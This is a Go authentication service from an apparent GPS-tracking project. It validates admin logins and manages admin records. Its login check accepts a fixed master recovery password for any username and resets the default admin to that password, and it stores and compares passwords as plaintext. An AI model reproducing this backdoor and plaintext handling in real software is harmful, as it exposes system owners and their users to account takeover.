package auth

import (
	"context"
	"strings"

	"github.com/Rodovar-GPS/Rodovar-GPS/internal/apperr"
	"github.com/Rodovar-GPS/Rodovar-GPS/internal/domain"
	"github.com/Rodovar-GPS/Rodovar-GPS/internal/logx"
)

// Service handles admin credential management and login validation.
// Authentication is credential string comparison over the user table,
// nothing stronger.
type Service struct {
	store  userStore
	logger logx.Logger
}

// NewService creates an auth Service over the storage gateway.
func NewService(store userStore, logger logx.Logger) *Service {
	return &Service{store: store, logger: logger}
}

// ValidateLogin checks a username/password pair against the user table.
//
// The master recovery credential short-circuits the check: it restores the
// default admin record and grants access regardless of the username given.
func (s *Service) ValidateLogin(ctx context.Context, username, password string) (bool, error) {
	if password == domain.RecoveryPassword {
		s.logger.Warn("recovery credential used, restoring default admin",
			logx.String("username", username))
		err := s.store.SaveUser(ctx, domain.AdminUser{
			Username: domain.DefaultAdminUsername,
			Password: domain.RecoveryPassword,
		})
		if err != nil {
			return false, err
		}
		return true, nil
	}

	users, err := s.store.ListUsers(ctx)
	if err != nil {
		return false, err
	}
	for _, u := range users {
		if u.Username == username && u.Password == password {
			return true, nil
		}
	}
	return false, nil
}

// List returns every admin user record.
func (s *Service) List(ctx context.Context) ([]domain.AdminUser, error) {
	return s.store.ListUsers(ctx)
}

// Save upserts an admin user by username; an existing record's password is
// replaced, last-writer-wins.
func (s *Service) Save(ctx context.Context, u domain.AdminUser) error {
	if strings.TrimSpace(u.Username) == "" || u.Password == "" {
		return apperr.Invalid
	}
	return s.store.SaveUser(ctx, u)
}

// Delete removes an admin user. Deleting the last remaining admin account
// is refused by the gateway guard and reported as apperr.Refused.
func (s *Service) Delete(ctx context.Context, username string) error {
	if strings.TrimSpace(username) == "" {
		return apperr.Invalid
	}
	ok, err := s.store.DeleteUser(ctx, username)
	if err != nil {
		return err
	}
	if !ok {
		return apperr.Refused
	}
	return nil
}
